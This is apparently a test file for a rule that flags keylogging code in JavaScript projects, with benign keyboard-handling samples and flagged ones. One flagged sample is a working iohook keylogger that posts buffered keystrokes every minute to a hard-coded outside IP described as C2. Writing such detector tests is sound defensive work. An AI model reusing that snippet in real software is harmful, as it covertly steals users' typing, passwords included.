import { ruleTest } from '../../testing/rule-tester.js';
import rule from './keylogging.js';

ruleTest(rule, {
  clean: [
    {
      name: 'DOM keydown handler in a game',
      file: 'src/game.js',
      code: `window.addEventListener('keydown', (e) => { if (e.key === 'ArrowUp') move(0, -1); });\nfetch('/api/score', { method: 'POST' });\n`,
    },
    {
      name: 'Electron global shortcut',
      file: 'main.js',
      code: `const { app, globalShortcut } = require('electron');\napp.whenReady().then(() => globalShortcut.register('CommandOrControl+X', () => {}));\n`,
    },
    {
      name: 'README-like mention in a string only',
      file: 'docs.js',
      code: `module.exports = 'We do not use iohook here';\n`,
    },
  ],
  flagged: [
    {
      name: 'iohook keystroke buffer posted to C2',
      file: 'lib/k.js',
      code: `const ioHook = require('iohook');
const axios = require('axios');
let buf = '';
ioHook.on('keydown', (e) => { buf += String.fromCharCode(e.rawcode); });
setInterval(() => { axios.post('http://45.61.1.2:1224/keys', { buf }); buf = ''; }, 60000);
ioHook.start();
`,
      findings: [{ line: 4, severity: 'high', confidence: 'high' }],
    },
    {
      name: 'node-global-key-listener alone (low)',
      file: 'hotkeys.ts',
      code: `import { GlobalKeyboardListener } from 'node-global-key-listener';\nconst v = new GlobalKeyboardListener();\nv.addListener((e) => console.log(e.name));\n`,
      findings: [{ line: 2, severity: 'medium', confidence: 'low' }],
    },
  ],
});
